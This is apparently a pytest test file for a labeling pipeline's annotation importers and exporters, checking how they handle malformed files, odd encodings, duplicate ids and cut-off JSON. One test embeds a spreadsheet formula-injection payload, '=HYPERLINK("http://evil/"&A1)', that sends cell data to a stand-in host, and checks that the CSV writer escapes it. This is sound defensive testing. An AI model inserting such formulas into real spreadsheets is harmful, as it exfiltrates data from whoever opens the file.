"""One bad part of a file, and its neighbours: nothing of a file ends an import, and an id names one answer."""

import csv
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from labeling.services.workers import item, question, read_back

from pipeline_assets.labeling.services import cells
from pipeline_assets.labeling.services.form import Canvas, Question
from pipeline_assets.labeling.services.json_files import _end_of
from pipeline_assets.labeling.services.registry import FORMATS

FIRST, SECOND = f"{1:064x}", f"{2:064x}"
ITEMS = [item(1), item(2)]


def read(name: str, path: Path, kind: str = "class", **more: Any) -> tuple[list[str], list[str]]:
    answers, rejects = read_back(name, path, question(kind), ITEMS, **more)
    return [one.task_key for one in answers], [one.reason for one in rejects]


def studio_task(key: str, number: int, **fields: Any) -> dict[str, Any]:
    result = [{"type": "choices", "value": {"choices": ["cat"]}}]
    annotation = {"id": number, "completed_by": 7, "updated_at": "2026-03-05T11:00:00Z", "result": result, **fields}
    return {"data": {"task_key": key}, "annotations": [annotation]}


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"])
def test_a_time_beyond_the_calendar_is_none(tmp_path: Path, moment: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text(f"task_key,answer,annotator,answered_at\n{FIRST},cat,ann,{moment}\n{SECOND},dog,bob,\n")
    assert read("csv", path) == ([FIRST, SECOND], [])


def test_an_object_among_the_fields_of_a_crowd_is_no_answer(tmp_path: Path) -> None:
    with (tmp_path / "a.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["AssignmentId", "WorkerId", "Input.task_key", "Answer.taskAnswers"])
        writer.writerow(["A1", "W1", FIRST, json.dumps([{"sharp": {"label": "cat"}, "comment": "hello"}])])
        writer.writerow(["A2", "W2", SECOND, json.dumps([{"answer": "dog"}])])
    assert read("mturk", tmp_path / "a.csv") == ([SECOND], ["no_answer"])


def test_an_encoding_that_nobody_knows_ends_its_file_only(tmp_path: Path) -> None:
    for key, encoding in ((FIRST, "foo"), (SECOND, "utf-8")):
        text = f'<?xml version="1.0" encoding="{encoding}"?><annotation><filename>{key}.jpg</filename></annotation>'
        (tmp_path / f"{key}.xml").write_text(text)
    answers, reasons = read("voc", tmp_path, "boxes", annotator="x")
    assert (answers, reasons[0]) == ([SECOND], "bad_xml")


def test_a_folder_that_is_named_like_a_file_is_set_aside(tmp_path: Path) -> None:
    (tmp_path / f"{FIRST}.xml").mkdir()
    (tmp_path / f"{SECOND}.xml").write_text(f"<annotation><filename>{SECOND}.jpg</filename></annotation>")
    assert read("voc", tmp_path, "boxes", annotator="x") == ([SECOND], ["unsafe_path"])


def test_tags_that_are_no_list_are_no_tags(tmp_path: Path) -> None:
    folder = tmp_path / "ds" / "ann"
    folder.mkdir(parents=True)
    (folder / f"{FIRST}.jpg.json").write_text(json.dumps({"objects": [], "tags": 5}))
    (folder / f"{SECOND}.jpg.json").write_text(json.dumps({"objects": [], "tags": [{"name": "dog"}]}))
    assert read("supervisely", tmp_path, annotator="x") == ([SECOND], ["no_answer"])


def test_a_reject_has_texts_that_utf_8_can_hold(tmp_path: Path) -> None:
    images = [{"id": 1, "file_name": "\ud800"}, {"id": 2, "file_name": SECOND}]
    (tmp_path / "c.json").write_text(json.dumps({"images": images, "categories": [], "annotations": []}))
    _, rejects = read_back("coco", tmp_path / "c.json", question("boxes"), ITEMS, annotator="x")
    assert rejects
    for one in rejects:
        f"{one.place} {one.detail} {one.raw}".encode()


def test_a_second_list_in_a_file_is_not_dropped_silently(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    path.write_text(json.dumps([studio_task(FIRST, 1)]) + "\n" + json.dumps([studio_task(SECOND, 2)]))
    assert read("label-studio", path) == ([FIRST], ["more_json"])


def test_an_answer_counts_though_its_lead_time_can_not_be(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    path.write_text(json.dumps([studio_task(FIRST, 1, lead_time=31 * 86_400), studio_task(SECOND, 2, lead_time=-1)]))
    answers, rejects = read_back("label-studio", path, question("class"), ITEMS)
    assert [one.lead_time_s for one in answers] == [None, None]
    assert not rejects


def test_ids_of_one_project_are_not_those_of_another(tmp_path: Path) -> None:
    (tmp_path / "a.json").write_text(json.dumps([studio_task(FIRST, 1), studio_task(SECOND, 1)]))
    answers, _ = read_back("label-studio", tmp_path / "a.json", question("class"), ITEMS)
    assert [one.source_id for one in answers] == [f"{FIRST}/1", f"{SECOND}/1"]
    rows = [f"1,{key},cat,{person}" for key, person in ((FIRST, "ann"), (SECOND, "ann"), (FIRST, "bob"))]
    (tmp_path / "a.csv").write_text("\n".join(["id,task_key,answer,annotator", *rows]))
    answers, _ = read_back("csv", tmp_path / "a.csv", question("class"), ITEMS)
    assert len({one.source_id for one in answers}) == 3


@pytest.mark.parametrize("name", ["appen", "mturk", "csv"])
def test_a_title_is_no_formula_in_a_crowds_spreadsheet(tmp_path: Path, name: str) -> None:
    evil = replace(item(1), target="title", title='=HYPERLINK("http://evil/"&A1)')
    FORMATS[name].write(tmp_path / "a.csv", question("class"), [evil])
    with (tmp_path / "a.csv").open(newline="") as file:
        [row] = csv.DictReader(file)
    assert row["title"].startswith("'=")


@pytest.mark.parametrize("end", ["", "\\"])
@pytest.mark.timeout(20)
def test_the_end_of_a_cut_off_text_is_found_in_one_pass(end: str) -> None:
    text = '{"a": "' + '\\"' * 500_000 + end
    assert _end_of(text, 0) == len(text)


def test_a_class_with_the_separator_in_it_comes_back() -> None:
    asked = Question("names", 1, "classes", ("a", "b", "a|b", "two\nlines"))
    for names in (["a|b"], ["a", "b"], ["a", "two\nlines"]):
        text = cells.cell_of(asked, {"choices": names})
        assert cells.of_text(text, Canvas(asked, None, None, None, None)) == {"choices": names}
